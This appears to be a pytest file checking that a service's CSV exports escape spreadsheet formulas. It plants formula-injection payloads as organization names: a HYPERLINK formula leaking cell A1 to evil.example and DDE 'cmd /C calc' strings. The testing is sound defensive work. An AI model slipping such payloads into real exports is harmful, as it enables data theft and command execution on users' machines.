"""ASVS V1.2.10 (CSV and formula injection): every CSV export writes a cell that a
spreadsheet would run as a formula as text instead, through one writer.

The defect this reproduces: `dealflow.csv` and the open-data CSVs escaped such cells, the
demo-day `schedule.csv` did not.
"""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from service import db
from service.accounts.models import Organization
from service.core import csv_export
from service.rewards.models import Milestone
from tests import factories
from tests.investors import helpers as investor_helpers
from tests.matching import helpers as matching_helpers
from tests.rewards.helpers import awarded

# Formula-looking organization names, one for each character a spreadsheet reads as a start.
CITY = '=HYPERLINK("http://evil.example/?leak="&A1,"Prize")'
WINNER = "@SUM(1+1)*cmd|' /C calc'!A0"
INVESTOR = "+1+cmd|' /C calc'!A0"
STARTUP = "-2+3+cmd|' /C calc'!A0"
TABBED = "\t=1+1"
RETURNED = "\r=1+1"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text, newline="")) for value in row]


def assert_escaped(text: str, *names: str) -> None:
    found = cells(text)
    for name in names:
        assert "'" + name in found, f"{name!r} is not in the export, escaped"
    raw = [c for c in found if c.startswith(FORMULA_START) and not _number(c)]
    assert raw == [], f"cells a spreadsheet would run: {raw}"


def _number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


async def rename(org_id: int, name: str) -> None:
    async with db.transaction(None):
        await Organization.filter(id=org_id).update(name=name)


class TestASVS_V1_2_10_OneWriterEscapesFormulas:
    """ASVS V1.2.10: CSV exports are protected against formula injection."""

    @pytest.mark.parametrize(
        ("value", "written"),
        [
            ("=1+1", "'=1+1"),
            ("+1+1", "'+1+1"),
            ("-1+1", "'-1+1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("\uff1d1+1", "'\uff1d1+1"),
            ("-12.5", "-12.5"),
            ("+3", "+3"),
            ("Ciudad Norte", "Ciudad Norte"),
            ("a=1", "a=1"),
            (-500, -500),
            (None, ""),
        ],
    )
    def test_cell(self, value: object, written: object) -> None:
        assert csv_export.cell(value) == written

    async def test_open_data_and_ledgers(self, client: httpx.AsyncClient) -> None:
        a = await awarded(client)
        await rename(a.city.org.id, CITY)
        await rename(a.winner_org, WINNER)
        async with db.transaction(None):
            await Milestone.filter(id=a.milestone_ids[0]).update(title=TABBED)
        challenges = await client.get("/api/v1/opendata/challenges.csv")
        assert_escaped(challenges.text, CITY)
        awards = await client.get("/api/v1/opendata/awards.csv")
        assert_escaped(awards.text, CITY, WINNER)
        milestones = await client.get("/api/v1/opendata/milestones.csv")
        assert_escaped(milestones.text, TABBED)
        # The ledger's counterparts: the city that funded, the winner the money is set for.
        ledger = await client.get("/api/v1/opendata/ledger.csv")
        assert_escaped(ledger.text, CITY, WINNER)
        payouts = await client.get("/api/v1/opendata/payouts.csv")
        assert payouts.headers["content-type"].startswith("text/csv")
        assert_escaped(payouts.text)

    async def test_dealflow(self, client: httpx.AsyncClient) -> None:
        world = await investor_helpers.deal(client, startups=2)
        await rename(world.startups[0].org.id, STARTUP)
        await rename(world.startups[1].org.id, TABBED)
        response = await client.get(
            f"/api/v1/investors/{world.investor.id}/dealflow.csv", headers=world.partner.headers
        )
        assert response.status_code == 200, response.text
        assert_escaped(response.text, STARTUP, TABBED)

    async def test_demo_day_schedule(self, client: httpx.AsyncClient, worker_burst) -> None:  # type: ignore[no-untyped-def]
        operator = await factories.person(client, operator=True, totp=True)
        fund, _ = await matching_helpers.investor(sectors=["mobility"], name=INVESTOR)
        company, _ = await matching_helpers.startup(sectors=["mobility"], name=RETURNED)
        other, _ = await matching_helpers.startup(sectors=["mobility"], name=STARTUP)
        body = {
            "title": "Spring demo day",
            "starts_at": "2026-05-01T09:00:00+02:00",
            "slot_minutes": 15,
            "investors": [{"organization_id": fund.id, "slots": 2}],
            "startups": [{"organization_id": c.id, "max_meetings": 1} for c in (company, other)],
        }
        created = await client.post("/api/v1/demo-days", json=body, headers=operator.headers)
        assert created.status_code == 202, created.text
        await worker_burst()
        response = await client.get(
            f"/api/v1/demo-days/{created.json()['id']}/schedule.csv", headers=operator.headers
        )
        assert response.status_code == 200, response.text
        assert_escaped(response.text, INVESTOR, RETURNED, STARTUP)
